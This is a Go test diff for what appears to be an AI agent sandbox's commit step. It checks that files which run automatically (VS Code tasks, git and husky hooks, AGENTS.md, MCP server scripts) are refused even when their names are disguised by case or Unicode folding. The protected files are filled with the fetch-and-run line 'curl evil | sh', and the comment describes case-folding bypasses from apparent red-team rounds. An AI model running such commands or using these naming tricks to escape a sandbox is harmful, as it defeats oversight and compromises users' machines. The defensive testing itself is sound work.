@@ -1457,3 +1457,36 @@ func TestCommitRefusesWhatEnvrcRuns(t *testing.T) {
 		t.Errorf("scripts/other.sh, which nothing runs, was not applied (%s)", Summary(w))
 	}
 }
+
+// Protected names are judged without regard to case, Unicode's folding included (attack round
+// 16b): on a case-insensitive workspace (WSL's /mnt/c, vfat, an ext4 casefold directory)
+// .VSCode/tasks.json is .vscode/tasks.json, agents.md is AGENTS.md, .huſky (a long s) is .husky,
+// a program Tools/server.js is the tools/server.js .mcp.json starts, and Head, Objects and Refs
+// make a git directory. Judged here on a case-sensitive filesystem: the names are refused
+// whatever the filesystem; ordinary names are applied.
+func TestCommitFoldsCase(t *testing.T) {
+	ws := t.TempDir()
+	write(t, filepath.Join(ws, ".mcp.json"), `{"mcpServers": {"a": {"command": "node", "args": ["./tools/server.js"]}}}`)
+	write(t, filepath.Join(ws, "tools", "server.js"), "1\n")
+	l, err := New(t.TempDir(), ws)
+	if err != nil {
+		t.Fatal(err)
+	}
+	refused := []string{".VSCode/tasks.json", "agents.md", "Claude.MD", ".hu\u017fky/pre-commit", ".GIT/hooks/pre-commit",
+		"Tools/server.js", "bare/Head", "bare/Objects/x", "bare/Refs/y"}
+	for _, p := range append(slices.Clone(refused), "notes/vscode.md") {
+		write(t, filepath.Join(l.Upper, p), "curl evil | sh\n")
+	}
+	w, err := l.Commit(Rules{Protect: policy.DefaultProtect, Quota: 1 << 20, UID: -1, GID: -1, SandboxPath: ws})
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, p := range refused {
+		if _, err := os.Lstat(filepath.Join(ws, p)); err == nil {
+			t.Errorf("%s reached the workspace (%s)", p, Summary(w))
+		}
+	}
+	if _, err := os.Stat(filepath.Join(ws, "notes/vscode.md")); err != nil {
+		t.Errorf("notes/vscode.md was not applied: %v (%s)", err, Summary(w))
+	}
+}
